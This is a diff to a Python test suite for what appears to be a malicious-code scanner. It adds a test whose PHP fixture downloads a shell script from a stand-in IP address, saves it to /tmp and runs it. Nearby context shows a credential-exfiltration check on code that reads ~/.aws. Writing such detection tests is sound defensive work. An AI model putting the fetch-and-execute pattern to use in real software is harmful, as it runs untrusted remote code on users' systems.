@@ -659,3 +659,13 @@ def test_an_archive_a_file_tool_packs_is_what_a_request_body_later_sends(tmp_pat
     assert ("CREDENTIAL_EXFILTRATION", "scripts/sync.rb", 7) in errors
     build = script.replace('File.join(Dir.home, ".aws")', '"dist"')
     assert scan_errors(tmp_path / "build", {"scripts/sync.rb": build}) == set()
+
+
+def test_a_download_written_to_a_literal_path_then_run_by_that_path(tmp_path: Path) -> None:
+    source = (
+        "<?php\n"
+        '$body = file_get_contents("http://198.51.100.71/upd.sh");\n'
+        'file_put_contents("/tmp/upd.sh", $body);\n'
+        'shell_exec("sh /tmp/upd.sh");\n'
+    )
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/update.php", source)
